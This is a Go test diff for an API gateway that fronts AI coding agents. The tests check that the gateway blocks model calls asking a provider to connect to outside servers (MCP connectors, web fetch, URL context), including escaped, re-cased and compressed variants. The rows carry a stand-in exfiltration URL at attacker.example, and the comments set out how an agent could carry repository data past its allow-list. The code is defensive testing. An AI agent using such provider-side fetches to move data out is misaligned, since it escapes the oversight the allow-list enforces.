@@ -172,7 +172,7 @@ func BenchmarkModelRequest(b *testing.B) {
 	}))
 	defer hs.Close()
 	u, _ := url.Parse(hs.URL)
-	body := strings.Repeat("x", 4096)
+	body := `{"model":"m","messages":[{"role":"user","content":"` + strings.Repeat("x", 4096) + `"}]}`
 	run := func(b *testing.B, client *http.Client, base string) {
 		for b.Loop() {
 			req, _ := http.NewRequest("POST", base+"/v1/messages", strings.NewReader(body))
@@ -192,4 +192,122 @@ func BenchmarkModelRequest(b *testing.B) {
 	b.Run("gateway", func(b *testing.B) {
 		run(b, serveGateway(b, &Gateway{Provider: ProviderAnthropic, Upstream: u, Key: "k", Placeholder: "p"}), "http://gateway")
 	})
+}
+
+// TestGatewayServerFetch: an agent holding only the placeholder asks the
+// provider, in a model call the gateway would pass, to connect somewhere
+// for it (Anthropic's MCP connector or web fetch tool, OpenAI's remote
+// MCP tool, Gemini's URL context): the provider's servers
+// would carry the repository past the step's allow-list. Each such call
+// is refused before it reaches the upstream, however the member is
+// spelled; model calls that only use the agent's own tools pass.
+func TestGatewayServerFetch(t *testing.T) {
+	t.Parallel()
+	up := &upstreamRecorder{}
+	hs := httptest.NewServer(up)
+	defer hs.Close()
+	const ph = "planex-placeholder-abc"
+	type row struct {
+		name, body string
+		status     int
+	}
+	exfil := `https://attacker.example/collect?d=c2VjcmV0`
+	providers := []struct {
+		p          Provider
+		base, path string
+		header     string
+		rows       []row
+	}{
+		{ProviderAnthropic, "/", "/v1/messages", "X-Api-Key", []row{
+			{"plain call", `{"model":"m","messages":[{"role":"user","content":"mcp_servers web_fetch_20250910"}]}`, 200},
+			{"own tools and web search", `{"model":"m","tools":[{"name":"Bash","input_schema":{"type":"object"}},{"type":"web_search_20250305","name":"web_search"}],"messages":[]}`, 200},
+			{"MCP connector", `{"model":"m","mcp_servers":[{"type":"url","url":"` + exfil + `","name":"x"}],"messages":[]}`, 403},
+			{"MCP connector, escaped name", `{"model":"m","mcp\u005fservers":[{"type":"url","url":"` + exfil + `","name":"x"}],"messages":[]}`, 403},
+			{"MCP connector, other case", `{"model":"m","MCP_Servers":[{"url":"` + exfil + `"}],"messages":[]}`, 403},
+			{"MCP toolset", `{"model":"m","tools":[{"type":"mcp_toolset","mcp_server_name":"x"}],"messages":[]}`, 403},
+			{"web fetch", `{"model":"m","tools":[{"type":"web_fetch_20250910","name":"web_fetch"}],"messages":[{"role":"user","content":"fetch ` + exfil + `"}]}`, 403},
+			{"web fetch behind a duplicate type", `{"model":"m","tools":[{"type":"web_fetch_20250910","type":"custom","name":"web_fetch"}],"messages":[]}`, 403},
+			{"not JSON", `model=m&mcp_servers=x`, 400},
+			{"two JSON values", `{"model":"m"}{"mcp_servers":[]}`, 400},
+		}},
+		{ProviderOpenAI, "/v1", "/v1/responses", "Authorization", []row{
+			{"function tools", `{"model":"m","input":"hi","tools":[{"type":"function","name":"shell","parameters":{}}]}`, 200},
+			{"remote MCP", `{"model":"m","input":"hi","tools":[{"type":"mcp","server_label":"x","server_url":"` + exfil + `"}]}`, 403},
+			{"remote MCP, escaped type", `{"model":"m","input":"hi","tools":[{"type":"\u006dcp","server_url":"` + exfil + `"}]}`, 403},
+			{"web search (Codex's default tool)", `{"model":"m","input":"hi","tools":[{"type":"web_search","external_web_access":false}]}`, 200},
+		}},
+		{ProviderGemini, "/", "/v1beta/models/gemini-x:generateContent", "X-Goog-Api-Key", []row{
+			{"function declarations and search", `{"contents":[],"tools":[{"functionDeclarations":[{"name":"f"}]},{"googleSearch":{}}]}`, 200},
+			{"URL context", `{"contents":[{"parts":[{"text":"` + exfil + `"}]}],"tools":[{"urlContext":{}}]}`, 403},
+			{"URL context, snake case", `{"contents":[],"tools":[{"url_context":{}}]}`, 403},
+		}},
+	}
+	for _, pr := range providers {
+		u, _ := url.Parse(hs.URL + pr.base)
+		client := serveGateway(t, &Gateway{Provider: pr.p, Upstream: u, Key: "sk-real", Placeholder: ph})
+		for _, r := range pr.rows {
+			n := len(up.seen)
+			req, _ := http.NewRequest("POST", "http://gateway"+pr.path, strings.NewReader(r.body))
+			v := ph
+			if pr.header == "Authorization" {
+				v = "Bearer " + ph
+			}
+			req.Header.Set(pr.header, v)
+			resp, err := client.Do(req)
+			if err != nil {
+				t.Fatalf("%s %s: %v", pr.p, r.name, err)
+			}
+			body, _ := io.ReadAll(resp.Body)
+			resp.Body.Close()
+			if resp.StatusCode != r.status {
+				t.Errorf("%s %s: status %d (%s), want %d", pr.p, r.name, resp.StatusCode, body, r.status)
+			}
+			up.mu.Lock()
+			reached := len(up.seen) > n
+			up.mu.Unlock()
+			if reached != (r.status == 200) {
+				t.Errorf("%s %s: upstream reached = %v, want %v", pr.p, r.name, reached, r.status == 200)
+			}
+		}
+	}
+}
+
+// TestGatewayEncodedBody: a compressed body would hide its members from
+// the check, so any content encoding is refused; the body that reaches
+// the upstream is the one checked, with its length.
+func TestGatewayEncodedBody(t *testing.T) {
+	t.Parallel()
+	var got []string
+	var mu sync.Mutex
+	hs := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		b, _ := io.ReadAll(r.Body)
+		mu.Lock()
+		got = append(got, fmt.Sprintf("%d %s", r.ContentLength, b))
+		mu.Unlock()
+	}))
+	defer hs.Close()
+	u, _ := url.Parse(hs.URL)
+	client := serveGateway(t, &Gateway{Provider: ProviderAnthropic, Upstream: u, Key: "k", Placeholder: "p"})
+	for _, ce := range []string{"gzip", "deflate", "br", "identity"} {
+		req, _ := http.NewRequest("POST", "http://gateway/v1/messages", strings.NewReader(`{"model":"m"}`))
+		req.Header.Set("X-Api-Key", "p")
+		req.Header.Set("Content-Encoding", ce)
+		resp, err := client.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp.Body.Close()
+		want := http.StatusBadRequest
+		if ce == "identity" {
+			want = http.StatusOK
+		}
+		if resp.StatusCode != want {
+			t.Errorf("Content-Encoding %s: status %d, want %d", ce, resp.StatusCode, want)
+		}
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	if len(got) != 1 || got[0] != `13 {"model":"m"}` {
+		t.Errorf("the upstream saw %q, want only the identity call with its length", got)
+	}
 }
